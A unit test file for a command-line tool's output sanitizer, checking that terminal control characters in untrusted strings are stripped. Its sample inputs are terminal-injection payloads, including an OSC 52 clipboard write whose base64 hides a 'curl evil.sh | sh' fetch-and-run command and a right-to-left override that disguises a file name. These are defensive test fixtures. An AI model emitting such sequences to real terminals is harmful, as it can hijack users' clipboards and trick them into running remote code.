import { describe, expect, it } from 'vitest';
import { status, table, untrusted, untrustedText } from './render.js';

// What a frame (or whoever named a path, a window or a token) could put in a string the CLI prints.
const attacks = {
  title: 'web\x1b]0;owned\x07', // OSC: set the window title
  clipboard: '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', // OSC 52: write the clipboard
  clear: '\x1b[2J\x1b[H', // wipe the screen, cursor home
  c1: 'a\u009b31mred', // 8-bit CSI
  bidi: 'safe\u202e/txt.exe', // right-to-left override
  bell: 'ding\x07',
  nul: 'a\x00b',
  del: 'a\x7fb',
};

const ESCAPES = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('untrusted', () => {
  it.each(Object.entries(attacks))('leaves no control character of %s', (_, s) => {
    const out = untrusted(s);
    expect(out).not.toMatch(ESCAPES);
    expect(out).not.toMatch(/[\n\t]/);
  });

  it('shows each control character as ?, like ls, and keeps the printable text', () => {
    expect(untrusted(attacks.title)).toBe('web?]0;owned?');
    expect(untrusted(attacks.c1)).toBe('a?31mred');
    expect(untrusted('/home/me/ä 日本')).toBe('/home/me/ä 日本');
  });

  it('puts a line break or tab on the one line as a space, so no fake row appears in a table', () => {
    expect(untrusted('desc\nweb     running   /etc')).toBe('desc web     running   /etc');
    expect(untrusted('a\r\nb\tc\rd')).toBe('a b c d');
  });

  it('takes what is not a string', () => {
    expect(untrusted(null)).toBe('');
    expect(untrusted(33001)).toBe('33001');
  });

  it('through status() and table() too', () => {
    expect(status('running\x1b[8m')).not.toContain('\x1b[8m');
    expect(table(['WORKSPACE'], [[untrusted('/srv/x\x1b[2J')]])).not.toContain('\x1b[2J');
  });
});

describe('untrustedText', () => {
  it('keeps the lines and tabs of a screen or log, and nothing else', () => {
    const screen = `$ npm test\r\n\tok 1\n${attacks.clipboard}\n${attacks.clear}done`;
    const out = untrustedText(screen);
    expect(out.split('\n')).toHaveLength(4);
    expect(out).toContain('\tok 1');
    expect(out).not.toMatch(ESCAPES);
    expect(out).not.toContain('\r');
  });
});
